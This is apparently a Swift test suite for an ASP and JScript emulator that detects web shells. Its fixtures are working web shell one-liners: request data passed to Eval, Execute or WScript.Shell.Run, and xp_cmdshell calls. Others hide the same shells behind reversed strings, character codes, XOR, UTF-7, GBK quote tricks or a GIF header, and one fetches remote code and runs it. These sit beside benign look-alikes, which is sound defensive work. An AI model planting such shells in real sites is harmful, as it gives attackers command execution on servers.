import Emulation
import Testing

@testable import ScriptEmulation

/// One small page for each way in that the catalogue lists, beside one that looks alike and is none.
@Suite struct ASPEmulatorTests {
  static func strong(_ page: String) -> Set<Predicate> { strong(Array(page.utf8)) }

  static func strong(_ page: [UInt8]) -> Set<Predicate> {
    let result = ASPEmulator().run(page, context: EmulationContext(path: "/www/x.asp"))
    return Set(result.proofs.map(\.predicate).filter(\.isStrong))
  }

  @Test(arguments: [
    ("plain", "<%eval request(\"a\")%>"),
    ("brackets", "<% Execute(Request.Form(\"a\")) %>"),
    ("global", "<% x = Request.QueryString(\"a\") : ExecuteGlobal x %>"),
    ("through a session", "<% Session(\"k\")=Request(\"a\")\nExecute Session(\"k\") %>"),
    ("through a function", "<% Function f(v)\n f = Replace(v, \"x\", \"y\")\nEnd Function\nEval f(Request(\"a\")) %>"),
    ("by reference", "<% Sub g(v)\n v = Request(\"a\")\nEnd Sub\n g s\n Execute s %>"),
    ("character codes", "<% Execute(Chr(101)&Chr(118)&Chr(97)&\"l request(\"\"a\"\")\") %>"),
    ("reversed", "<% Execute StrReverse(\")\"\"a\"\"(tseuqer lave\") %>"),
    ("replaced", "<% Execute Replace(\"eva@l req@uest(\"\"a\"\")\", \"@\", \"\") %>"),
    (
      "own decoder",
      "<% Function d(s)\nFor i = 1 To Len(s)\nd = d & Chr(Asc(Mid(s, i, 1)) - 1)\nNext\nEnd Function\n"
        + "Execute d(\"fwbm!sfrvftu)#b#*\") %>"
    ),
    (
      "xor of the body",
      "<% k=\"key\"\nb=Request.BinaryRead(9)\nFor i=1 To 9\nr=r&Chr(AscB(MidB(b,i,1)) Xor 7)\nNext\nExecute r %>"
    ),
    ("with", "<% With Request\n x = .Form(\"a\")\nEnd With\nEval x %>"),
    (
      "script control",
      "<% Set c=CreateObject(\"MSScriptControl.ScriptControl\")\nc.Language=\"VBScript\"\nc.AddCode Request(\"a\") %>"
    ),
    ("script element", "<script language=vbscript runat=server>Eval(Request(\"a\"))</script>"),
    ("JScript", "<%@ language=\"JScript\"%><% eval(Request.Item(\"a\") + \"\"); %>"),
    (
      "JScript's alias",
      "<script runat=server language=javascript>var o = {'f': eval}; o.f(Request.Form('a')+'')</script>"
    ),
    ("without frames", "if Request(\"a\")<>\"\" then ExecuteGlobal request(\"a\") end if"),
    (
      "names of another alphabet",
      "<%@ language=\"JScript\"%><% var o = {'\u{540D}': Request.Form('a'), '\u{6027}': eval}; o.\u{6027}(o.\u{540D} + ''); %>"
    ),
    (
      "kept and emptied",
      "<% Session(\"k\") = Request(\"a\")\nIf x Then Session(\"k\") = \"\"\nExecute Session(\"k\") %>"
    ),
    ("in an image", "GIF89a\u{1}\u{2}<% Eval Request(\"a\") %>"),
    ("mixed case", "<% eXeCuTe(rEqUeSt(\"a\")) %>"),
    ("comment with a quote", "<% ' it's\nEval Request(\"a\") %>"),
  ])
  func requestDataRunsAsCode(_ name: String, _ page: String) {
    #expect(Self.strong(page).contains(.taintedCode), "\(name)")
  }

  @Test(arguments: [
    ("query", "<% Conn.Execute(\"update t set a='\" & Request(\"a\") & \"'\") %>"),
    ("an own Execute for queries", "<% Execute(\"Update t Set n=1 Where id=\" & Request(\"id\")) %>"),
    ("constant code", "<% Execute \"a = 1\" %>"),
    ("shifted footer", "<% Execute Replace(\"Resp#nse.Write 1\", \"#\", \"o\") %>"),
    ("number", "<% id = CInt(Request(\"id\"))\nExecute \"x = \" & id %>"),
    ("output", "<% Response.Write Server.HTMLEncode(Request(\"a\")) %>"),
    (
      "counter file",
      "<% Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(Server.MapPath(\"n.txt\"))\nf.Write Request(\"n\") %>"
    ),
    (
      "component test",
      "<% On Error Resume Next\nSet o = Server.CreateObject(\"WScript.Shell\")\nIf Err = 0 Then Response.Write \"yes\" %>"
    ),
    ("text about it", "<p>eval request(\"a\")</p>"),
  ])
  func lookAlikesAreNone(_ name: String, _ page: String) {
    #expect(Self.strong(page).isEmpty, "\(name)")
  }

  @Test(arguments: [
    ("run", "<% Set s = CreateObject(\"WScript.Shell\")\ns.Run Request(\"c\") %>"),
    (
      "split name",
      "<% Set s = CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\")\nx = s.Exec(\"cmd /c \" & Request(\"c\")).StdOut.ReadAll %>"
    ),
    (
      "object element",
      "<object runat=server id=sh classid=\"clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8\"></object><% sh.Run Request(\"c\") %>"
    ),
    ("Shell.Application", "<% Set s = Server.CreateObject(\"Shell.Application\")\ns.ShellExecute Request(\"c\") %>"),
    (
      "xp_cmdshell",
      "<% c.Execute \"exec master..xp_cmdshell '\" & Request(\"c\") & \"'\"\nSet c = CreateObject(\"ADODB.Connection\")\nc.Execute \"exec master..xp_cmdshell '\" & Request(\"c\") & \"'\" %>"
    ),
  ])
  func requestDataRunsAsCommand(_ name: String, _ page: String) {
    #expect(Self.strong(page).contains(.taintedCommand), "\(name)")
  }

  @Test func aComponentByItsClassIsHidden() {
    let page = "<% Set s = GetObject(\"new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}\") %>"
    #expect(Self.strong(page) == [.commandComponent])
  }

  @Test func codeIsWritten() {
    let named =
      "<% Set s = CreateObject(\"ADODB.Stream\")\ns.Open\ns.WriteText Request(\"t\")\ns.SaveToFile Server.MapPath(\"x.asp\"), 2 %>"
    #expect(Self.strong(named) == [.writtenCode])
    let anywhere =
      "<% Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(Request(\"p\"))\nf.Write Request(\"t\") %>"
    #expect(Self.strong(anywhere) == [.writtenCode])
    #expect(Self.strong(named.replacing("x.asp", with: "x.htm")).isEmpty)
  }

  @Test func theProofShowsTheWay() throws {
    let result = ASPEmulator().run(
      Array("<%\nx = Request(\"a\")\nExecute x\n%>".utf8), context: EmulationContext(path: "/x.asp"))
    let proof = try #require(result.proofs.first)
    #expect(proof.path == [TaintStep(line: 2, what: "Request(\"a\")"), TaintStep(line: 3, what: "execute")])
  }

  @Test func decodedCodeIsALayer() throws {
    let result = ASPEmulator().run(
      Array("<% Execute StrReverse(\")\"\"a\"\"(tseuqer lave\") %>".utf8), context: EmulationContext(path: "/x.asp"))
    #expect(result.layers.map { String(decoding: $0.bytes, as: UTF8.self) } == ["eval request(\"a\")"])
    #expect(result.proofs.first?.layer == 1)
  }

  @Test func aQuoteSwallowedByADoubleByteEndsNothing() {
    // GBK: the last byte of the text takes the quote along; and typographic quotes are quotes.
    #expect(
      Self.strong(Array("<% eval request(".utf8) + [0xA1, 0xB0, 0x61, 0xA1, 0xB1] + Array(") %>".utf8)) == [
        .taintedCode
      ])
  }

  @Test func otherEncodingsAreRead() {
    let page = "<% Eval Request(\"a\") %>"
    let wide = page.utf16.flatMap { [UInt8(truncatingIfNeeded: $0), UInt8(truncatingIfNeeded: $0 >> 8)] }
    #expect(Self.strong([0xFF, 0xFE] + wide) == [.taintedCode])
    #expect(
      Self.strong([0, 1, 0, 0] + Array("Standard Jet DB".utf8) + [0, 7, 9] + wide + [1, 2, 3]) == [.taintedCode])
    #expect(Self.strong("<%@ codepage=65000 %>+ADwAJQ- Eval Request(+ACI-a+ACI-) +ACUAPg-") == [.taintedCode])
  }

  static func all(_ page: String) -> Set<Predicate> {
    Set(ASPEmulator().run(Array(page.utf8), context: EmulationContext(path: "/www/x.asp")).proofs.map(\.predicate))
  }

  @Test func evalUnderAnotherNameIsHidden() {
    let page = "<script runat=server language=javascript>var o = {'E': eval}; o.E(unescape(x.y) + '');</script>"
    #expect(Self.strong(page) == [.hiddenCall])
    #expect(!Self.strong("<%@ language=\"JScript\"%><% eval(x.y); %>").contains(.hiddenCall))
  }

  @Test func codeOfAHiddenAddressIsNoUpdate() {
    func page(_ address: String) -> String {
      "<% Set h = CreateObject(\"MSXML2.ServerXMLHTTP.3.0\")\nh.open \"GET\", \(address), False\nh.send\nExecute h.responseText %>"
    }
    #expect(Self.all(page("\"http://a.example/x\"")) == [.remoteCode])
    #expect(Self.strong(page("Chr(104) & Chr(116) & \"tp://a.example/x\"")) == [.derivedCode])
  }

  @Test(arguments: [
    ("anywhere", "<% Set f = fs.GetFolder(Request(\"d\")) %>", false),
    (
      "anywhere",
      "<% Set fs = CreateObject(\"Scripting.FileSystemObject\")\nFor Each x In fs.GetFolder(Request(\"d\")).Files\nNext %>",
      true
    ),
    (
      "within the site",
      "<% Set fs = CreateObject(\"Scripting.FileSystemObject\")\nSet f = fs.GetFolder(Server.MapPath(Request(\"d\"))) %>",
      false
    ),
  ])
  func listingOfAnyFolder(_ name: String, _ page: String, _ isProven: Bool) {
    #expect(Self.all(page).contains(.taintedListing) == isProven, "\(name)")
  }

  @Test func ownProgramsAreNoShell() {
    func page(_ command: String) -> String {
      "<% Set s = CreateObject(\"WScript.Shell\")\ns.Run Server.MapPath(\"/bin\") & \(command), 1, False %>"
    }
    #expect(Self.strong(page("\"\\convert.exe -i \" & id")).isEmpty)
    #expect(Self.strong(page("\"\\cmd.exe /c \" & id")) == [.commandComponent])
  }

  /// A decoder that walks backwards over more than the time allows: what it has made by then is looked at.
  @Test func unfinishedDecodersAreLookedAt() {
    let code = String(repeating: "' a line of padding\n", count: 4_000) + "Execute Request(\"a\")\n"
    let replaced = code.reversed().map { $0 == "\n" ? "~" : $0 == "\"" ? "`" : $0 }
    let coded = String(replaced)
    let page = """
      <% c = "\(coded)"
      For i = 1 To Len(c)
      t = Mid(c, i, 1)
      If t = "~" Then t = vbLf
      If t = "`" Then t = Chr(34)
      r = t & r
      Next
      Execute r %>
      """
    var budget = EmulationBudget()
    budget.steps = 20_000
    let result = ASPEmulator(budget: budget).run(Array(page.utf8), context: EmulationContext(path: "/www/x.asp"))
    #expect(result.limits.contains(.steps))
    #expect(result.proofs.contains { $0.predicate == .taintedCode })
  }
}
